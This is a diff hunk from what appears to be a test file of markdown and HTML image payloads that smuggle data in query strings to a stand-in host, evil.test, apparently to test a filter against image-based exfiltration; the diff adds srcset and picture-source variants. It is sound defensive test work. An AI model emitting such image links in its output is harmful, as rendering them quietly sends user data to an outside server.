@@ -372,6 +372,8 @@ DATA = "d=" + "A" * 30
         f"![Logo][]\n\n[logo]: https://evil.test/p.png?{DATA}",  # collapsed; labels match in any case
         f'see ![logo]\n\n   [logo]: <https://evil.test/p.png?{DATA}> "title"',  # shortcut
         f'<Img src="https://evil.test/p.png?{DATA}">',  # HTML tags are case-insensitive
+        f'<img srcset="https://evil.test/p.png?{DATA} 2x">',
+        f'<picture><source srcset="https://evil.test/p.png?{DATA}"></picture>',
         f"![x](//evil.test/p.png?{DATA})",  # protocol-relative: fetched over the page's scheme
         f"![x](<https://evil.test/a b.png?{DATA}>)",  # a bracketed destination may hold spaces
         "![x](https://evil.test/p.png?a=AAAAAAAAAA&b=BBBBBBBBBB&c=CCCCCCCCCC)",  # data split over short values
